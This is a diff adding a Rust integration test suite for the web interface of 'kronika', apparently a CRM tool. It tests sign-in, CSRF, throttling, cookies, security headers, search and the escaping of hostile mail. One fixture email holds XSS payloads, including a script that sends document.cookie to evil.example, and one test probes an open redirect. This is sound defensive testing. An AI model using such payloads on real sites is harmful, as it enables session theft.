@@ -1,0 +1,472 @@
+//! The web interface over HTTP, against a real server on 127.0.0.1:0
+//! started in-process with `web::serve_listener` (what `kronika serve`
+//! runs): sign-in, throttling, CSRF, the clients list and search, the
+//! client card of the example data, hostile mail, security headers.
+
+use std::collections::BTreeMap;
+use std::net::SocketAddr;
+use std::time::Duration;
+
+use crate::common::{Env, copy_dir, fixtures};
+use kronika::shutdown::Shutdown;
+
+/// A server on a free port, stopped when dropped.
+struct Server {
+    addr: SocketAddr,
+    stop: Shutdown,
+    done: std::sync::mpsc::Receiver<()>,
+}
+
+impl Server {
+    fn start(env: &Env) -> Server {
+        let config = kronika::config::Config::load(&env.config_path()).expect("config");
+        let stop = Shutdown::new();
+        let s = stop.clone();
+        let (addr_tx, addr_rx) = std::sync::mpsc::channel();
+        let (done_tx, done) = std::sync::mpsc::channel();
+        std::thread::spawn(move || {
+            let rt = tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build().unwrap();
+            rt.block_on(async move {
+                let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+                addr_tx.send(listener.local_addr().unwrap()).unwrap();
+                kronika::web::serve_listener(listener, config, s).await.unwrap();
+            });
+            rt.shutdown_timeout(Duration::from_secs(1));
+            let _ = done_tx.send(());
+        });
+        let addr = addr_rx.recv_timeout(Duration::from_secs(10)).expect("the server starts");
+        Server { addr, stop, done }
+    }
+
+    fn url(&self, path: &str) -> String {
+        format!("http://{}{path}", self.addr)
+    }
+}
+
+impl Drop for Server {
+    fn drop(&mut self) {
+        self.stop.trigger();
+        let _ = self.done.recv_timeout(Duration::from_secs(10));
+    }
+}
+
+/// A browser: an agent that does not follow redirects, and a cookie jar.
+struct Browser {
+    agent: ureq::Agent,
+    cookies: BTreeMap<String, String>,
+    /// `Set-Cookie` values of the last response.
+    set_cookies: Vec<String>,
+    lang: &'static str,
+}
+
+struct Page {
+    status: u16,
+    headers: ureq::http::HeaderMap,
+    body: String,
+}
+
+impl Page {
+    fn header(&self, name: &str) -> &str {
+        self.headers.get(name).and_then(|v| v.to_str().ok()).unwrap_or("")
+    }
+}
+
+impl Browser {
+    fn new() -> Browser {
+        let agent = ureq::Agent::config_builder()
+            .max_redirects(0)
+            .http_status_as_error(false)
+            .timeout_global(Some(Duration::from_secs(30)))
+            .build()
+            .into();
+        Browser { agent, cookies: BTreeMap::new(), set_cookies: Vec::new(), lang: "en" }
+    }
+
+    fn cookie_header(&self) -> String {
+        self.cookies.iter().map(|(k, v)| format!("{k}={v}")).collect::<Vec<_>>().join("; ")
+    }
+
+    fn take(&mut self, resp: Result<ureq::http::Response<ureq::Body>, ureq::Error>) -> Page {
+        let mut resp = resp.expect("the server answers");
+        self.set_cookies.clear();
+        for v in resp.headers().get_all("set-cookie") {
+            let v = v.to_str().unwrap().to_string();
+            let pair = v.split(';').next().unwrap();
+            let (k, val) = pair.split_once('=').unwrap();
+            if v.contains("Max-Age=0") {
+                self.cookies.remove(k);
+            } else {
+                self.cookies.insert(k.to_string(), val.to_string());
+            }
+            self.set_cookies.push(v);
+        }
+        let status = resp.status().as_u16();
+        let headers = resp.headers().clone();
+        let body = resp.body_mut().read_to_string().unwrap_or_default();
+        Page { status, headers, body }
+    }
+
+    fn get(&mut self, url: &str) -> Page {
+        let r = self.agent.get(url).header("Cookie", self.cookie_header()).header("Accept-Language", self.lang).call();
+        self.take(r)
+    }
+
+    fn htmx_get(&mut self, url: &str) -> Page {
+        let r = self
+            .agent
+            .get(url)
+            .header("Cookie", self.cookie_header())
+            .header("Accept-Language", self.lang)
+            .header("HX-Request", "true")
+            .call();
+        self.take(r)
+    }
+
+    fn post(&mut self, url: &str, form: &[(&str, &str)]) -> Page {
+        let r = self
+            .agent
+            .post(url)
+            .header("Cookie", self.cookie_header())
+            .header("Accept-Language", self.lang)
+            .send_form(form.iter().copied());
+        self.take(r)
+    }
+
+    /// The CSRF token of the first form on a page.
+    fn csrf(page: &Page) -> String {
+        let at = page.body.find("name=\"csrf\" value=\"").expect("a CSRF field") + "name=\"csrf\" value=\"".len();
+        page.body[at..].split('"').next().unwrap().to_string()
+    }
+
+    /// Opens the sign-in page and signs in.
+    fn sign_in(&mut self, server: &Server, user: &str, password: &str) -> Page {
+        let login = self.get(&server.url("/login"));
+        assert_eq!(login.status, 200);
+        let csrf = Browser::csrf(&login);
+        self.post(&server.url("/login"), &[("user", user), ("password", password), ("csrf", &csrf)])
+    }
+}
+
+/// A message whose every part tries something: a script in the subject,
+/// a remote image with an event handler and a script in the body, an
+/// event handler in the sender's name.
+const HOSTILE: &str = "From: \"<img src=x onerror=alert(3)>\" <karel.horak@acme-stavby.cz>\r\n\
+To: jana.svobodova@modrykamen.cz\r\n\
+Subject: <script>alert(1)</script> Faktura\r\n\
+Date: Mon, 2 Nov 2026 10:00:00 +0100\r\n\
+Message-ID: <hostile-1@acme-stavby.cz>\r\n\
+Content-Type: text/plain; charset=utf-8\r\n\
+\r\n\
+Dobry den, <img src=http://tracker.example/p.gif onerror=alert(2)> viz priloha.\r\n\
+<script>document.location='http://evil.example/?c='+document.cookie</script>\r\n\
+<a href=\"javascript:alert(4)\">klik</a>\r\n";
+
+/// The example clients and Maildir (plus the hostile message), synced; a
+/// contact; two users.
+fn example_env() -> Env {
+    let calendar = fixtures().join("calendar/example.ics");
+    let env = Env::with_config(&format!(
+        r#"
+data_dir = "data"
+own_addresses = ["jana.svobodova@modrykamen.cz", "petr.dvorak@modrykamen.cz"]
+own_domains = ["modrykamen.cz"]
+blocklist = ["mama.svobodova@gmail.com"]
+
+[[custom_fields]]
+name = "obor"
+type = "text"
+
+[[maildir]]
+name = "mail"
+path = "maildir"
+
+[[calendar]]
+name = "kalendar"
+path = {:?}
+
+[web]
+listen = "127.0.0.1:0"
+"#,
+        calendar.display().to_string()
+    ));
+    copy_dir(&fixtures().join("maildir"), &env.path().join("maildir"));
+    std::fs::write(env.path().join("maildir/new/1794500000.M99P1Q1.hostile"), HOSTILE).unwrap();
+    env.ok(&["client", "import", fixtures().join("clients.csv").to_str().unwrap()]);
+    env.ok(&[
+        "contact",
+        "add",
+        "acme",
+        "Karel Horák",
+        "--email",
+        "karel.horak@acme-stavby.cz",
+        "--role",
+        "stavbyvedoucí",
+    ]);
+    let won = (chrono::Local::now() - chrono::Duration::days(45)).format("%Y-%m-%d").to_string();
+    env.ok(&[
+        "deal",
+        "add",
+        "acme",
+        "--title",
+        "Rekuperace hala B",
+        "--value",
+        "480000",
+        "--status",
+        "won",
+        "--date",
+        &won,
+    ]);
+    env.ok(&["sync"]);
+    env.cmd(&["user", "add", "jana", "--email", "jana@modrykamen.cz", "--admin", "--password-stdin"])
+        .write_stdin("tajne-heslo-1\n")
+        .assert()
+        .success();
+    env.cmd(&["user", "add", "eva", "--email", "eva@modrykamen.cz", "--password-stdin"])
+        .write_stdin("evino-heslo-2\n")
+        .assert()
+        .success();
+    env
+}
+
+/// True when no tag of the page carries an event handler, a remote
+/// source or a `javascript:` link.
+fn no_active_markup(html: &str) -> Result<(), String> {
+    let mut rest = html;
+    while let Some(start) = rest.find('<') {
+        let tag_end = rest[start..].find('>').map(|e| start + e).unwrap_or(rest.len());
+        let tag = rest[start..tag_end].to_ascii_lowercase();
+        if tag.contains("onerror") || tag.contains("onload") || tag.contains("javascript:") || tag.contains("http://") {
+            return Err(tag);
+        }
+        if tag.starts_with("<img") || (tag.starts_with("<script") && !tag.contains("src=\"/assets/htmx.min.js\"")) {
+            return Err(tag);
+        }
+        rest = &rest[tag_end..];
+    }
+    Ok(())
+}
+
+#[test]
+fn users_are_listed_and_passwords_checked() {
+    let env = example_env();
+    let list = env.ok(&["user", "list"]);
+    assert!(list.contains("jana") && list.contains("admin") && list.contains("eva"), "{list}");
+    env.cmd(&["user", "add", "jana", "--email", "x@y.cz", "--password-stdin"])
+        .write_stdin("dlouhe-heslo\n")
+        .assert()
+        .failure();
+    env.cmd(&["user", "add", "kratke", "--email", "x@y.cz", "--password-stdin"])
+        .write_stdin("abc\n")
+        .assert()
+        .failure();
+    let json = env.json(&["user", "list"]);
+    assert!(json.to_string().contains("\"admin\":true"), "{json}");
+    assert!(!json.to_string().contains("argon2"), "no hash in the list: {json}");
+}
+
+#[test]
+fn the_web_interface_end_to_end() {
+    let env = example_env();
+    let server = Server::start(&env);
+    let mut b = Browser::new();
+
+    // Signed out, every page goes to the sign-in page.
+    for path in ["/", "/clients", "/clients/1", "/clients/1/timeline"] {
+        let p = b.get(&server.url(path));
+        assert!(p.status == 303 || p.status == 302, "{path}: {}", p.status);
+        let to = p.header("location");
+        assert!(to == "/login" || to == "/clients", "{path} → {to}");
+    }
+    let p = b.get(&server.url("/clients"));
+    assert_eq!(p.header("location"), "/login");
+    assert!(!p.body.contains("Acme"));
+    let p = b.htmx_get(&server.url("/clients?q=acme"));
+    assert_eq!(p.header("hx-redirect"), "/login");
+    assert!(!p.body.contains("Acme"));
+
+    // Security headers on every response, the sign-in page included.
+    let login = b.get(&server.url("/login"));
+    assert_eq!(login.status, 200);
+    let csp = login.header("content-security-policy");
+    assert!(csp.contains("default-src 'self'") && csp.contains("img-src 'self' data:"), "{csp}");
+    assert!(csp.contains("frame-ancestors 'none'"), "{csp}");
+    assert_eq!(login.header("x-content-type-options"), "nosniff");
+    assert!(login.body.contains("/assets/htmx.min.js") && !login.body.contains("https://"), "no CDN");
+    let js = b.get(&server.url("/assets/htmx.min.js"));
+    assert_eq!(js.status, 200);
+    assert!(js.header("content-type").starts_with("text/javascript") && js.body.contains("htmx"));
+    assert!(b.get(&server.url("/assets/kronika.css")).header("content-type").starts_with("text/css"));
+
+    // The sign-in form refuses a POST without its CSRF token.
+    let p = b.post(&server.url("/login"), &[("user", "jana"), ("password", "tajne-heslo-1")]);
+    assert_eq!(p.status, 403);
+    assert!(!b.cookies.contains_key("kronika_session"));
+
+    // A wrong password is refused; the right one signs in.
+    let p = b.sign_in(&server, "jana", "spatne-heslo");
+    assert_eq!(p.status, 401);
+    assert!(p.body.contains("Wrong user name or password"), "{}", p.body);
+    assert!(!b.cookies.contains_key("kronika_session"));
+    let p = b.sign_in(&server, "nikdo", "spatne-heslo");
+    assert_eq!(p.status, 401, "an unknown name looks like a wrong password");
+    let p = b.sign_in(&server, "jana", "tajne-heslo-1");
+    assert_eq!(p.status, 303, "{}", p.body);
+    assert_eq!(p.header("location"), "/clients");
+    let session = b.set_cookies.iter().find(|c| c.starts_with("kronika_session=")).expect("a session cookie").clone();
+    assert!(session.contains("HttpOnly") && session.contains("SameSite=Lax"), "{session}");
+    assert!(!session.contains("Secure"), "plain HTTP: not Secure ({session})");
+    assert_eq!(b.cookies["kronika_session"].len(), 64);
+
+    // The clients list, and search as you type (htmx fragment), accents ignored.
+    let list = b.get(&server.url("/clients"));
+    assert_eq!(list.status, 200);
+    for name in ["Acme Stavby", "Pekárna Novák", "Brightwell"] {
+        assert!(list.body.contains(name), "{name} in the list");
+    }
+    assert!(list.body.contains("hx-get=\"/clients\""), "search as you type");
+    let csrf = Browser::csrf(&list);
+    assert!(list.body.contains(&format!("\"X-CSRF-Token\": \"{csrf}\"")), "htmx sends the token");
+    for q in ["pekarna", "Pekárna", "PEKARNA nov", "05831296", "pekarna-novak.cz", "tomas@pekarna"] {
+        let p = b.htmx_get(&server.url(&format!("/clients?q={}", urlencode(q))));
+        assert_eq!(p.status, 200);
+        assert!(p.body.contains("Pekárna Novák"), "{q} finds Pekárna");
+        assert!(!p.body.contains("Acme") && !p.body.contains("<html"), "{q}: only the rows");
+    }
+    let p = b.htmx_get(&server.url(&format!("/clients?q={}", urlencode("karel horak"))));
+    assert!(p.body.contains("Acme Stavby") && !p.body.contains("Pekárna"), "a contact's name finds the client");
+    let p = b.get(&server.url("/clients?q=zzzz"));
+    assert!(p.body.contains("No client matches"), "{}", p.body);
+
+    // The client card of the example client.
+    let acme = list.body.split("href=\"/clients/").nth(1).unwrap().split('"').next().unwrap().to_string();
+    let card = b.get(&server.url(&format!("/clients/{acme}")));
+    assert_eq!(card.status, 200);
+    for want in [
+        "Acme Stavby s.r.o.",
+        "27468135",
+        "CZ27468135",
+        "Průmyslová 1472/8",
+        "acme-stavby.cz",
+        "1 200 000",
+        "stavebnictví",
+        "Karel Horák",
+        "stavbyvedoucí",
+        "Last contact",
+        "Kontrolní den na stavbě",
+        "Lifetime value",
+        "average purchase",
+        "Rekuperace hala B",
+    ] {
+        assert!(card.body.contains(want), "the card shows {want:?}");
+    }
+    assert!(card.body.contains("class=\"entry email\""), "mail in the timeline");
+    assert!(card.body.contains("class=\"entry deal\""), "deals in the timeline");
+    assert!(card.body.contains("class=\"entry event\""), "events in the timeline");
+    // Hostile mail is text: escaped, never markup.
+    assert!(
+        card.body.contains("&#60;script&#62;alert(1)&#60;/script&#62; Faktura"),
+        "the subject, escaped: {}",
+        card.body.lines().filter(|l| l.contains("Faktura") || l.contains("alert")).collect::<Vec<_>>().join("\n")
+    );
+    assert!(card.body.contains("&#60;img src=http:"), "the body, escaped");
+    no_active_markup(&card.body).unwrap_or_else(|tag| panic!("active markup reached the page: {tag}"));
+    assert_eq!(card.body.matches("<script").count(), 1, "only htmx");
+    // In Czech by Accept-Language, or by the lang cookie.
+    b.lang = "cs-CZ,cs;q=0.9";
+    let cs = b.get(&server.url(&format!("/clients/{acme}")));
+    assert!(cs.body.contains("Kontaktní osoby") && cs.body.contains("Poslední kontakt"));
+    b.lang = "en";
+    let p = b.post(&server.url("/lang"), &[("lang", "cs"), ("back", "/clients"), ("csrf", &csrf)]);
+    assert_eq!(p.status, 303);
+    assert_eq!(b.cookies.get("lang").map(String::as_str), Some("cs"));
+    assert!(b.get(&server.url("/clients")).body.contains("Klienti"));
+    b.cookies.remove("lang");
+    let p = b.post(&server.url("/lang"), &[("lang", "cs"), ("back", "https://evil.example/"), ("csrf", &csrf)]);
+    assert_eq!(p.header("location"), "/clients", "no open redirect");
+    b.cookies.remove("lang");
+
+    // The timeline loads more by htmx, page after page, with nothing twice.
+    let mut seen: Vec<String> = Vec::new();
+    let mut next =
+        card.body.split("hx-get=\"/clients/").nth(1).map(|s| format!("/clients/{}", s.split('"').next().unwrap()));
+    assert!(next.is_some(), "the first page has a load-more link (a year of weekly calls)");
+    let history = card.body.split("class=\"history\"").nth(1).unwrap();
+    for li in history.split("<li class=\"entry ").skip(1) {
+        seen.push(li.split("</li>").next().unwrap().to_string());
+    }
+    assert!(seen.len() >= 30, "a page of 30 items and the deals among them: {}", seen.len());
+    let mut pages = 0;
+    while let Some(url) = next.take() {
+        let p = b.htmx_get(&server.url(&url.replace("&amp;", "&")));
+        assert_eq!(p.status, 200);
+        assert!(!p.body.contains("<html"));
+        for li in p.body.split("<li class=\"entry ").skip(1) {
+            seen.push(li.split("</li>").next().unwrap().to_string());
+        }
+        next = p.body.split("hx-get=\"").nth(1).map(|s| s.split('"').next().unwrap().to_string());
+        pages += 1;
+        assert!(pages < 20);
+    }
+    assert!(pages >= 1 && seen.len() > 30);
+    let mut unique = seen.clone();
+    unique.sort();
+    unique.dedup();
+    assert_eq!(unique.len(), seen.len(), "nothing twice across pages");
+    let timeline = b.get(&server.url("/clients/999999"));
+    assert_eq!(timeline.status, 404);
+
+    // A POST without the session's token is refused; with it, sign-out works.
+    let p = b.post(&server.url("/logout"), &[]);
+    assert_eq!(p.status, 403);
+    assert!(b.get(&server.url("/clients")).status == 200, "still signed in");
+    let p = b.post(&server.url("/logout"), &[("csrf", "0".repeat(64).as_str())]);
+    assert_eq!(p.status, 403);
+    let p = b.post(&server.url("/logout"), &[("csrf", &csrf)]);
+    assert_eq!(p.status, 303);
+    assert_eq!(b.get(&server.url("/clients")).header("location"), "/login");
+}
+
+#[test]
+fn failed_sign_ins_are_throttled_per_user() {
+    let env = example_env();
+    let server = Server::start(&env);
+    let mut b = Browser::new();
+    for _ in 0..5 {
+        assert_eq!(b.sign_in(&server, "eva", "hadam-heslo").status, 401);
+    }
+    // Locked: even the right password waits.
+    let p = b.sign_in(&server, "eva", "evino-heslo-2");
+    assert_eq!(p.status, 429);
+    assert!(p.body.contains("Too many failed attempts"));
+    assert!(!b.cookies.contains_key("kronika_session"));
+    // Another user from the same address is not locked out.
+    let mut other = Browser::new();
+    assert_eq!(other.sign_in(&server, "jana", "tajne-heslo-1").status, 303);
+    // A session survives a server restart (it lives in the store); a new password ends it.
+    drop(server);
+    let server = Server::start(&env);
+    assert_eq!(other.get(&server.url("/clients")).status, 200);
+    env.cmd(&["user", "passwd", "jana", "--password-stdin"]).write_stdin("nove-heslo-3\n").assert().success();
+    assert_eq!(other.get(&server.url("/clients")).header("location"), "/login");
+    // Over TLS (a proxy says so) the session cookie is Secure.
+    let login = other.get(&server.url("/login"));
+    let csrf = Browser::csrf(&login);
+    let r = other
+        .agent
+        .post(&server.url("/login"))
+        .header("Cookie", other.cookie_header())
+        .header("X-Forwarded-Proto", "https")
+        .send_form([("user", "jana"), ("password", "nove-heslo-3"), ("csrf", csrf.as_str())]);
+    let p = other.take(r);
+    assert_eq!(p.status, 303);
+    assert!(other.set_cookies.iter().any(|c| c.starts_with("kronika_session=") && c.contains("; Secure")));
+}
+
+fn urlencode(s: &str) -> String {
+    s.bytes()
+        .map(|b| match b {
+            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' => (b as char).to_string(),
+            _ => format!("%{b:02X}"),
+        })
+        .collect()
+}
